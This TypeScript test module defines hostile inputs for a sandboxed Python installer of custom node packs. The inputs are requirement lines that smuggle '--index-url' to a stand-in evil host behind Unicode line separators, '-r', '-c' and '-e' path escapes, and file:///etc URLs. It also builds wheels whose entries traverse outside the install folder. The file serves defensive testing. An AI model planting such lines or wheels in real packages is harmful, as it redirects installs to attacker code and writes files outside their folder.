import { installParams } from '../../api';
import { buildWheel } from '../../world/wheel';
import { zipFiles, type FileMap } from '../../world/zip';
import { bytes, endless, redirect, type Answer } from '../hostile-host';
import { escapingFile, playTask, servedPack, type HostileForm, type Stage } from '../stage';

const { id: pack, version } = servedPack;
const leaves = new RegExp(`^[^/]+/custom_nodes/${pack}(/|$)`);

/** A pack that asks for these lines. */
async function publish({ world }: Stage, lines: string, more: FileMap = {}): Promise<void> {
  const files = { '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n', 'requirements.txt': lines, ...more };
  world.registry.replaceZip(pack, version, await zipFiles(files));
}

const install = (stage: Stage) => playTask(stage, { kind: 'install', params: installParams(pack) });

/** A line of a pack that leads the installer elsewhere. `evil` is a host that nobody has a reason to ask. */
function lines(name: string, write: (stage: Stage) => string, more: Partial<HostileForm> = {}): HostileForm {
  return {
    name: `requirement: ${name}`,
    prepare: (stage) => publish(stage, `${write(stage)}\n`),
    act: install,
    ends: 'either',
    leaves,
    ...more,
  };
}

const evilIndex = ({ hosts }: Stage) => `${hosts.evil.url}/simple/`;
const isNoRequirement = 'a line that is no requirement of a package is left out';

const ends: readonly HostileForm[] = [
  '\u0085',
  '\u001c',
  '\u001d',
  '\u001e',
  '\u000b',
  '\u000c',
  '\u2028',
  '\u2029',
  '\r',
].map((separator) =>
  lines(
    `an index behind ${JSON.stringify(separator)}`,
    (stage) => `absent-escape${separator}--index-url ${evilIndex(stage)}`,
    {
      namesIndex: true,
      // pip ends its lines where Python's splitlines does; the others are one line for both sides.
      ...(['\u0085', '\u001c', '\u001d', '\u001e'].includes(separator)
        ? {}
        : { blockedBefore: 'both sides end the line there' }),
    },
  ),
);

const options: readonly HostileForm[] = [
  lines('--index-url of its own', (stage) => `absent-escape\n--index-url ${evilIndex(stage)}`, {
    namesIndex: true,
    blockedBefore: 'the main index stays',
  }),
  lines('-i of its own', (stage) => `-i ${evilIndex(stage)}\nabsent-escape`, {
    namesIndex: true,
    blockedBefore: 'the main index stays',
  }),
  lines('an option behind a requirement', (stage) => `absent-escape --index-url=${evilIndex(stage)}`, {
    namesIndex: true,
    blockedBefore: 'the main index stays',
  }),
  lines('an option behind a backslash', (stage) => `absent-escape \\\n--index-url ${evilIndex(stage)}`, {
    namesIndex: true,
    blockedBefore: 'the main index stays',
  }),
  lines('--trusted-host and --pre', () => '--trusted-host evil.example\n--pre\n', { blockedBefore: isNoRequirement }),
  lines('another file of requirements', () => '-r ../../../escape.txt', { blockedBefore: isNoRequirement }),
  lines('constraints of another place', () => '-c /etc/hostname', { blockedBefore: isNoRequirement }),
  lines('the folder of somebody', () => '-e ../../..', { blockedBefore: isNoRequirement }),
  lines('an option that is a command', () => '--global-option="--escape"\n--config-settings=x', {
    blockedBefore: isNoRequirement,
  }),
];

const looseWheel = 'escape-1.0-py3-none-any.whl';

/** A line that names a host of the attacker, which leads the installer to our own door. */
function led(address: string, door: (stage: Stage) => string): HostileForm {
  const form = lines(
    `"${address}" that leads to our own door`,
    ({ hosts }) => `escape @ ${address.replace('EVIL', hosts.evil.url)}`,
  );
  return {
    ...form,
    prepare: async (stage) => {
      stage.hosts.evil.answerInstead(/^\/loose/, redirect(door(stage)));
      await form.prepare(stage);
    },
  };
}

const isNoPackage = 'uv finds no package there';

const places: readonly HostileForm[] = [
  ...[
    'escape @ file:///etc',
    'escape @ file:///../../escape',
    'escape @ git+file:///etc',
    'git+file:///etc#egg=escape',
  ].map((line) => lines(JSON.stringify(line), () => line, { blockedBefore: isNoPackage })),
  ...['file:///etc/escape', '../../../escape', '/etc/escape'].map((line) =>
    lines(JSON.stringify(line), () => line, { blockedBefore: isNoRequirement }),
  ),
  lines('our own door', ({ ownDoor }) => `escape @ ${ownDoor}`, {
    blockedBefore: 'uv asks for no file of such a name',
  }),
  lines('our own door by git', ({ ownDoor }) => `escape @ git+${ownDoor}`, { blockedBefore: isNoPackage }),
  led(`EVIL/loose/${looseWheel}`, ({ ownDoor }) => `${ownDoor}?a=/${looseWheel}`),
  led('git+EVIL/loose.git', ({ ownDoor }) => `${ownDoor}?a=/info/refs`),
];

/** An index that answers something else for one package. */
function index(
  name: string,
  answers: (stage: Stage) => Promise<Record<string, Answer>> | Record<string, Answer>,
  more: Partial<HostileForm> = {},
): HostileForm {
  return {
    name: `index: ${name}`,
    prepare: async (stage) => {
      await publish(stage, 'escape-package\n');
      for (const [path, answer] of Object.entries(await answers(stage)))
        stage.hosts.index.answerInstead(new RegExp(path), answer);
    },
    act: install,
    ends: 'failed',
    leaves,
    blockedBefore: 'the installer itself refuses it, and the pack with it',
    ...more,
  };
}

const page = '^/simple/escape-package';
const links =
  (...list: string[]): Answer =>
  ({ response }) => {
    const rows = list.map((href) => `<a href="${href}">${href.split('/').at(-1)?.split('#')[0] ?? ''}</a>`);
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(`<!DOCTYPE html><html><body>${rows.join('\n')}</body></html>`);
  };
const wheelName = 'escape_package-1.0-py3-none-any.whl';
const good = () => buildWheel({ name: 'escape-package', version: '1.0' });

/** A wheel with one more file, under any name. */
async function wheelWith(files: FileMap): Promise<Buffer> {
  const info = 'escape_package-1.0.dist-info';
  const all = {
    'escape_package/__init__.py': '',
    [`${info}/METADATA`]: 'Metadata-Version: 2.1\nName: escape-package\nVersion: 1.0\n',
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    ...files,
  };
  const record = [...Object.keys(all), `${info}/RECORD`].map((name) => `${name},,`).join('\n');
  return zipRaw({ ...all, [`${info}/RECORD`]: `${record}\n` });
}

/** yazl refuses such names itself: they are written under a name of the same length, which is then exchanged. */
async function zipRaw(files: FileMap): Promise<Buffer> {
  const swaps = Object.keys(files).filter((name) => name.includes('..') || name.startsWith('/'));
  const safe = (name: string) => (swaps.includes(name) ? '_'.repeat(name.length) : name);
  const zip = await zipFiles(Object.fromEntries(Object.entries(files).map(([name, content]) => [safe(name), content])));
  let text = zip.toString('latin1');
  for (const name of swaps) text = text.replaceAll(safe(name), name);
  return Buffer.from(text, 'latin1');
}

/** A wheel with a file that lies elsewhere. An installer may refuse the wheel, or install everything but that file. */
function wheel(name: string, path: string): HostileForm {
  const { source, flags } = leaves;
  return index(
    `a wheel with ${name}`,
    async () => ({
      [page]: links(`/files/${wheelName}`),
      '^/files/': bytes(await wheelWith({ [path]: 'escape\n' })),
    }),
    {
      ends: 'either',
      leaves: new RegExp(`${source}|^packages/escape_package(-1\\.0\\.dist-info)?$`, flags),
      fetches: new RegExp(`^/files/${wheelName}`),
      blockedBefore: 'the installer itself leaves that file out',
    },
  );
}

const indexes: readonly HostileForm[] = [
  index(
    'a wheel whose name is a path',
    async () => ({ [page]: links(`/files/..%2f..%2f${wheelName}`), '^/files/': bytes(await good()) }),
    { ends: 'either' },
  ),
  index('a wheel of this machine', () => ({ [page]: links(`file:///tmp/${wheelName}`) })),
  index('a wheel of our own door', ({ ownDoor }) => ({ [page]: links(`${ownDoor}?a=/${wheelName}`) }), {
    ends: 'either',
    blockedBefore: undefined,
  }),
  index('a redirect to our own door', ({ ownDoor }) => ({ [page]: redirect(`${ownDoor}?a=/simple/`) }), {
    ends: 'either',
    blockedBefore: undefined,
  }),
  index('a redirect to file:', () => ({ [page]: redirect('file:///etc/') })),
  index('a wheel that is none', () => ({ [page]: links(`/files/${wheelName}`), '^/files/': bytes('PK nothing') })),
  index('a wheel of another package', async () => ({
    [page]: links('/files/other-1.0-py3-none-any.whl'),
    '^/files/': bytes(await good()),
  })),
  index('a hash that is another', async () => ({
    [page]: links(`/files/${wheelName}#sha256=${'0'.repeat(64)}`),
    '^/files/': bytes(await good()),
  })),
  index('JSON in the place of a page', () => ({
    [page]: ({ response }) => void response.writeHead(200, { 'content-type': 'application/json' }).end('{}'),
  })),
  index('a page without an end', () => ({ [page]: endless('<html>', '<!-- x -->') }), { ends: 'either' }),
  wheel('a file outside', `../../../../../${escapingFile}`),
  wheel('a file beside the packages', `../${escapingFile}`),
  wheel('a file outside, by its data', `escape_package-1.0.data/data/../../../../../../../${escapingFile}`),
  wheel('an absolute file', `/tmp/${escapingFile}`),
];

/** What packs can ask for, and what an index can answer. */
export const pythonForms: readonly HostileForm[] = [...ends, ...options, ...places, ...indexes];
